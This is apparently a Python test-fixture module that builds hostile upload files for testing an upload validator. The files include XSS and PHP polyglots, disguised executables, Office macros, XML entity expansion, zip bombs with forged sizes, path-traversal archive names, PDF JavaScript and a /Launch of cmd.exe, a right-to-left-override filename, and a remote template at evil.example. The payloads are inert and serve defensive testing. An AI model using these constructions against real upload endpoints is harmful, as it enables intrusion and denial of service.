"""Files to upload, good and hostile, made on the spot."""

import io
import random
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

CONTENT_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>'
BODY = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def pdf(extra: bytes = b"", *, head: bytes = b"%PDF-1.4\n", tail: bytes = b"") -> bytes:
    return head + BODY + extra + b"\nstartxref\n0\n%%EOF\n" + tail


def picture(kind: str = "PNG", size=(4, 4)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "teal").save(buffer, kind)
    return buffer.getvalue()


def archive(parts: dict, *, types: str = CONTENT_TYPES, method=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as made:
        if types:
            made.writestr("[Content_Types].xml", types)
        for name, content in parts.items():
            made.writestr(name, content)
    return buffer.getvalue()


def docx(**parts) -> bytes:
    return archive({"word/document.xml": "<w:document/>", **parts})


def xlsx(parts: dict | None = None, **how) -> bytes:
    return archive({"xl/workbook.xml": "<workbook/>", **(parts or {})}, **how)


def lying_zip() -> bytes:
    """A workbook whose directory says 10 bytes where 30 megabytes come out, with the sum of the 10."""
    honest = xlsx({"xl/worksheets/sheet1.xml": b"0" * 30_000_000})
    true_size, true_sum = struct.pack("<L", 30_000_000), struct.pack("<L", zlib.crc32(b"0" * 30_000_000))
    return honest.replace(true_size, struct.pack("<L", 10)).replace(true_sum, struct.pack("<L", zlib.crc32(b"0" * 10)))


def broad_png() -> bytes:
    """A small PNG whose head says 40,000 by 40,000 points."""
    small = picture()
    head = struct.pack(">LL", 40_000, 40_000) + small[24:29]
    return small[:16] + head + struct.pack(">L", zlib.crc32(b"IHDR" + head)) + small[33:]


def two_of_a_name() -> bytes:
    twice = xlsx({"xl/worksheets/sheet1.xml": "<a/>", "xl/worksheets/sheet2.xml": "<b/>"})
    return twice.replace(b"sheet2.xml", b"sheet1.xml")


HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EXE = b"MZ" + b"\x90" * 200
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
MACRO_TYPES = CONTENT_TYPES.replace("</Types>", '<Override PartName="/x" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>')
DOCTYPE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
PNG, JPEG, WEBP = picture(), picture("JPEG"), picture("WEBP")


def packed(content: bytes) -> bytes:
    """Objects of a PDF that lie packed in a stream."""
    inside = zlib.compress(content)
    return b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(inside) + inside + b"\nendstream\nendobj\n"


def noise(size) -> Image.Image:
    """Grey points that press together badly, as a photo's do, and are the same in every run."""
    return Image.frombytes("L", size, random.Random(1).randbytes(size[0] * size[1]))


def photo(kind: str = "JPEG", *, turned: int = 6, size=(64, 48)) -> bytes:
    """A photo with its place and its phone, taken upright."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F] = turned, "Telepon Rahasia"
    exif.get_ifd(0x8825).update({1: "S", 2: (2.0, 9.0, 30.0), 3: "E", 4: (115.0, 23.0, 0.0)})
    buffer = io.BytesIO()
    noise(size).convert("RGB").save(buffer, kind, exif=exif.tobytes())
    return buffer.getvalue()


TEMPLATE = '<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
HOSTILE = {
    # Another kind than the name says.
    "html as pdf": ("sk.pdf", HTML),
    "html as jpg": ("foto.jpg", HTML),
    "html as png": ("foto.png", HTML),
    "html as docx": ("surat.docx", HTML),
    "html": ("halaman.html", HTML),
    "svg": ("logo.svg", SVG),
    "svg as png": ("logo.png", SVG),
    "svg as pdf": ("logo.pdf", SVG),
    "svg after a declaration": ("logo.webp", b'<?xml version="1.0"?>' + SVG),
    "exe": ("pasang.exe", EXE),
    "exe as pdf": ("sk.pdf", EXE),
    "exe as jpg": ("foto.jpg", EXE),
    "exe as xlsx": ("data.xlsx", EXE),
    "elf as pdf": ("sk.pdf", b"\x7fELF" + b"\0" * 300),
    "script as pdf": ("sk.pdf", b"#!/bin/sh\necho 1\n"),
    "php as jpg": ("foto.jpg", b"<?php echo 1; ?>"),
    "javascript": ("kode.js", b"alert(1)"),
    "text as pdf": ("sk.pdf", b"SK Bupati Tabalong"),
    "csv as xlsx": ("data.xlsx", b"a,b\n1,2\n"),
    "rtf as docx": ("surat.docx", rb"{\rtf1 hello}"),
    "old word": ("surat.doc", OLE),
    "old word as docx": ("surat.docx", OLE),
    "old excel as xlsx": ("data.xlsx", OLE),
    "gif": ("gerak.gif", b"GIF89a" + b"\0" * 60),
    "gif as png": ("gerak.png", b"GIF89a" + b"\0" * 60),
    "bmp": ("gambar.bmp", b"BM" + b"\0" * 60),
    "tiff as jpg": ("gambar.jpg", b"II*\0" + b"\0" * 60),
    "video as jpg": ("film.jpg", b"\0\0\0\x18ftypmp42" + b"\0" * 60),
    "png as jpg": ("foto.jpg", PNG),
    "jpg as pdf": ("foto.pdf", JPEG),
    "pdf as png": ("sk.png", pdf()),
    "pdf as docx": ("sk.docx", pdf()),
    "docx as xlsx": ("data.xlsx", docx()),
    "xlsx as docx": ("surat.docx", xlsx()),
    "pdf without ending": ("sk", pdf()),
    "two endings": ("sk.pdf.exe", pdf()),
    "ending hidden by reading direction": ("sk\u202efdp.exe", pdf()),
    # Archives.
    "zip": ("arsip.zip", archive({"a.txt": "a"}, types="")),
    "zip as docx": ("surat.docx", archive({"a.txt": "a"}, types="")),
    "jar as xlsx": ("data.xlsx", archive({"META-INF/MANIFEST.MF": "a", "A.class": "b"}, types="")),
    "gzip as pdf": ("sk.pdf", b"\x1f\x8b\x08" + b"\0" * 60),
    "rar as docx": ("surat.docx", b"Rar!\x1a\x07\x00" + b"\0" * 60),
    "7z as xlsx": ("data.xlsx", b"7z\xbc\xaf\x27\x1c" + b"\0" * 60),
    "docx without its listing": ("surat.docx", archive({"word/document.xml": "a"}, types="")),
    # Programs inside Office files.
    "word macro": ("surat.docx", docx(**{"word/vbaProject.bin": b"a"})),
    "word macro in capitals": ("surat.docx", docx(**{"word/VBAPROJECT.BIN": b"a"})),
    "excel macro": ("data.xlsx", xlsx({"xl/vbaProject.bin": b"a"})),
    "excel 4 macro sheet": ("data.xlsx", xlsx({"xl/macrosheets/sheet1.xml": "<a/>"})),
    "macro only declared": ("data.xlsx", xlsx(types=MACRO_TYPES)),
    "activex": ("surat.docx", docx(**{"word/activeX/activeX1.bin": b"a"})),
    "ole object": ("surat.docx", docx(**{"word/embeddings/oleObject1.bin": b"a"})),
    "exe inside docx": ("surat.docx", docx(**{"word/media/pasang.exe": EXE})),
    "html inside docx": ("surat.docx", docx(**{"word/afchunk.htm": HTML})),
    "entities in the workbook": ("data.xlsx", archive({"xl/workbook.xml": DOCTYPE})),
    "entities in a part": ("surat.docx", docx(**{"word/styles.xml": DOCTYPE})),
    # Archives that are not what they tell.
    "zip bomb": ("data.xlsx", xlsx({"xl/worksheets/sheet1.xml": b"0" * 30_000_000})),
    "zip bomb that lies": ("data.xlsx", lying_zip()),
    "many parts": ("data.xlsx", xlsx({f"xl/{number}.xml": "" for number in range(3_000)}, method=zipfile.ZIP_STORED)),
    "name outside": ("data.xlsx", xlsx({"../../etc/passwd": "a"})),
    "name from the root": ("data.xlsx", xlsx({"/etc/passwd": "a"})),
    "two parts of a name": ("data.xlsx", two_of_a_name()),
    "other packing": ("data.xlsx", xlsx(method=zipfile.ZIP_LZMA)),
    "macro workbook inside docx": ("surat.docx", docx(**{"word/embeddings/data.xlsm": b"a"})),
    "archive inside docx": ("surat.docx", docx(**{"word/embeddings/a.zip": b"a"})),
    "links without end before a template": ("surat.docx", docx(**{"word/_rels/settings.xml.rels": "<Relationship " * 30_000 + TEMPLATE})),
    "template from elsewhere": ("surat.docx", docx(**{"word/_rels/settings.xml.rels": TEMPLATE})),
    "cut off": ("data.xlsx", xlsx()[:-30]),
    "cut in the middle": ("surat.docx", docx(**{"word/media/a.xml": "<a/>" * 500})[60:]),
    # PDF.
    "pdf, only its first line": ("sk.pdf", b"%PDF-1.4\n"),
    "pdf, cut off": ("sk.pdf", pdf()[:-20]),
    "pdf of no version": ("sk.pdf", pdf(head=b"%PDF-x\n")),
    "pdf after other bytes": ("sk.pdf", pdf(head=b"junk %PDF-1.4\n")),
    "pdf with a program": ("sk.pdf", pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>")),
    "pdf with a hidden program": ("sk.pdf", pdf(b"<< /S /J#61va#53cript >>")),
    "pdf that starts a program": ("sk.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>")),
    "pdf with a file inside": ("sk.pdf", pdf(b"<< /Type /EmbeddedFile >>")),
    "pdf with media": ("sk.pdf", pdf(b"<< /Subtype /RichMedia >>")),
    "pdf that sends a form": ("sk.pdf", pdf(b"<< /S /SubmitForm >>")),
    "pdf with xfa": ("sk.pdf", pdf(b"<< /XFA 3 0 R >>")),
    "pdf and html": ("sk.pdf", pdf(head=b"%PDF-1.4\n<html><script>alert(1)</script>")),
    "pdf and zip": ("sk.pdf", pdf(tail=archive({"a.txt": "a"}))),
    "pdf with a program after a megabyte": ("sk.pdf", pdf(b"0" * 1_048_570 + b"<< /S /JavaScript >>")),
    "pdf with a packed program": ("sk.pdf", pdf(packed(b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"))),
    "pdf with a program packed deep": ("sk.pdf", pdf(packed(b"0" * 300_000 + b"<< /S /JavaScript >>"))),
    "pdf that is locked": ("sk.pdf", pdf(b"trailer << /Encrypt 5 0 R >>")),
    "pdf that unpacks to far too much": ("sk.pdf", pdf(packed(b"0" * 5_000_000) * 20)),
    # Pictures.
    "jpg, its second half missing": ("foto.jpg", photo()[:-700]),
    "webp, its second half missing": ("foto.webp", photo("WEBP")[:-300]),
    "jpg, filled up before its points": ("foto.jpg", JPEG[:2] + b"\xff" * 1_000_000 + JPEG[2:]),
    "jpg, filled up behind its points": ("foto.jpg", JPEG[:-2] + b"\xff" * 300_000),
    "jpg, only its first bytes": ("foto.jpg", JPEG[:20]),
    "png, cut off": ("foto.png", PNG[:40]),
    "png with a wrong sum": ("foto.png", PNG[:30] + b"xxxx" + PNG[34:]),
    "png of 40,000 by 40,000": ("foto.png", broad_png()),
    "jpg and zip": ("foto.jpg", JPEG + archive({"a.txt": "a"})),
    "png and html": ("foto.png", PNG + HTML),
    "jpg and php": ("foto.jpg", JPEG + b"<?php echo 1; ?>"),
    "webp and script": ("foto.webp", WEBP + b"<script>alert(1)</script>"),
    "empty": ("kosong.pdf", b""),
}
